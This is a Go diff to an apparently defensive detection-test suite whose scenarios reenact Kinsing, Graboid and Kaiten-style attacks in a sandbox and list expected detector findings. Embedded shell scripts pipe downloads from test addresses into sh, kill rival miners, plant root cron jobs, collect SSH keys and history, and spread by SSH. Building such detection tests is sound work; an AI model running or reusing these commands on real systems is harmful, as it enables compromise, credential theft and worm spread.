@@ -2,6 +2,7 @@ package scenarios
 
 import (
 	"encoding/base64"
+	"fmt"
 	"runtime"
 	"strings"
 
@@ -52,28 +53,26 @@ cd /tmp/.dao
 }
 
 func pipeToShell() Scenario {
-	image := samples.Spec{Entrypoint: []string{"/bin/sh", "-c", `apt-get update -q; crond; wget -q -O - http://198.18.7.9/d.sh | sh; wget -q -O - http://198.18.7.9/spre.sh | sh; sh /opt/rest.sh; tail -f /dev/null`}}
+	image := samples.Spec{Entrypoint: []string{"/bin/sh", "-c", `apt-get update -q; crond; wget -q -O - http://198.18.7.9/d.sh | sh; tail -f /dev/null`}}
 	image.Links = map[string]string{"/usr/sbin/crond": "/bin/busybox"}
 	image = files(with(image, "/usr/bin/ssh"), map[string]string{
 		"/usr/bin/apt-get": "#!/bin/sh\nwget -q -O /dev/null http://deb.debian.org/debian/dists/bookworm/InRelease\nexit 0\n",
-		// What the scripts would do that the internet of the sandbox does not have.
-		"/opt/rest.sh": dropperScript,
 	})
 	return ill("a02-pipe-to-shell", "A shell pipes a script from an address into itself; that kills rivals, wipes logs, fetches a program, plants a task, and goes on by SSH.", image,
 		by(found(execution, "pipe-download-shell", "198.18.7.9"), "/bin/dash", "/bin/dash"),
 		found(weaponization, "rival-kill", "watchbog"),
 		worse(report.Medium, found(weaponization, "log-wipe", "/var/log/wtmp", "/var/log/btmp")),
 		found(execution, "ingress-exec-marker", "198.18.7.9", "/tmp/kinsing"),
-		by(found(execution, "drift-exec-elf", "/tmp/kinsing"), "/opt/rest.sh", "/tmp/kinsing"),
+		by(found(execution, "drift-exec-elf", "/tmp/kinsing"), "sh", "/tmp/kinsing"),
 		found(weaponization, "cron-persistence", "198.18.7.9"),
 		found(propagation, "ssh-target-harvest", "known_hosts", ".ssh/config"),
-		found(propagation, "ssh-spread", "203.0.113."),
-	)
+		by(found(propagation, "ssh-spread", "203.0.113."), "sh", "sh", "ssh"),
+	).served(map[string]Served{"http://198.18.7.9/d.sh": {Text: dropperScript}, "http://198.18.7.9/spre.sh": {Text: spreadScript}})
 }
 
-// dropperScript is the work of d.sh and spre.sh of the reports on Kinsing, as
-// far as it harms nobody.
-const dropperScript = `for rival in kdevtmpfsi watchbog ddgs minerd sysrv cryptonight xmr-stak networkservice; do
+// The scripts of the reports on Kinsing, as far as they harm nobody.
+const (
+	dropperScript = `for rival in kdevtmpfsi watchbog ddgs minerd sysrv cryptonight xmr-stak networkservice; do
 	killall -9 $rival
 done
 crontab -r
@@ -84,19 +83,31 @@ chmod 777 /tmp/kinsing
 /tmp/kinsing &
 mkdir -p /var/spool/cron/crontabs
 echo '* * * * * wget -q -O - http://198.18.7.9/d.sh | sh > /dev/null 2>&1' >> /var/spool/cron/crontabs/root
-cat /root/.ssh/known_hosts /root/.ssh/config /root/.bash_history /root/.ssh/id_ed25519 > /tmp/.h 2>/dev/null
+wget -q -O - http://198.18.7.9/spre.sh | sh
+wait
+`
+	spreadScript = `cat /root/.ssh/known_hosts /root/.ssh/config /root/.bash_history /root/.ssh/id_ed25519 > /tmp/.h 2>/dev/null
 for host in 203.0.113.21 203.0.113.22 203.0.113.23; do
 	ssh -o StrictHostKeyChecking=no -o BatchMode=yes -i /root/.ssh/id_ed25519 root@$host 'wget -q -O - http://198.18.7.9/d.sh | sh'
 done
-wait
 `
+)
 
 func dockerWorm() Scenario {
 	image := with(samples.Spec{Entrypoint: []string{"/usr/bin/nginx", "docker-worm", "http://c2.graboid.test", "250s"}}, "/usr/bin/nginx")
 	return ill("a03-docker-worm", "A program takes addresses from its master, looks for open Docker engines, starts containers there, and calls home between bursts of mining.", image,
 		worse(report.High, found(propagation, "scan-horizontal", ":2375")),
-		by(found(propagation, "docker-api-spread", "containers/create", ":2375"), "docker-worm"),
-	).not("miner-cmdline")
+		by(found(propagation, "docker-api-spread", "containers/create", "198.18.120."), "docker-worm"),
+	).served(map[string]Served{"http://c2.graboid.test/list.txt": {Text: addresses("198.18.120", 60)}})
+}
+
+// addresses is a list of n of a network, a line each.
+func addresses(network string, n int) string {
+	var list strings.Builder
+	for i := range n {
+		fmt.Fprintf(&list, "%s.%d\n", network, 1+i)
+	}
+	return list.String()
 }
 
 func hostEscapeCron() Scenario {
@@ -229,21 +240,20 @@ exit 0
 
 func ircBot() Scenario {
 	image := script("/entrypoint.sh", `cd /tmp
-for a in x86 x86_64 i686 mips mipsel arm7 ppc sh4; do
+for a in x86 i686 mips mipsel arm7 ppc sh4 x86_64 aarch64; do
 	wget -q -O .$a http://198.18.7.20/bins/kaiten.$a
 	chmod 777 .$a
-	./.$a
+	./.$a bot irc.kaiten.test:6667
 	rm -f .$a
 done
-cp /opt/fetched /tmp/.bot
-/tmp/.bot bot irc.kaiten.test:6667
 exit 0
-`, "/opt/fetched")
+`)
+	mine := map[string]string{"amd64": "x86_64", "arm64": "aarch64"}[runtime.GOARCH]
 	return ill("a11-irc-bot", "A script fetches a bot for every CPU, runs what runs, and the bot takes orders in a channel.", image,
 		found(execution, "multiarch-download", "198.18.7.20", "kaiten.mips"),
-		by(found(execution, "drift-exec-elf", "/tmp/.x86_64"), "/entrypoint.sh", "/tmp/.x86_64"),
-		by(found(communication, "irc-c2", "irc.kaiten.test"), "/entrypoint.sh", "/tmp/.bot"),
-	)
+		by(found(execution, "drift-exec-elf", "/tmp/."+mine), "/entrypoint.sh", "/tmp/."+mine),
+		by(found(communication, "irc-c2", "irc.kaiten.test"), "/entrypoint.sh", "/tmp/."+mine),
+	).served(map[string]Served{"http://198.18.7.20/bins/kaiten." + mine: {Program: player}})
 }
 
 func webhookThief() Scenario {
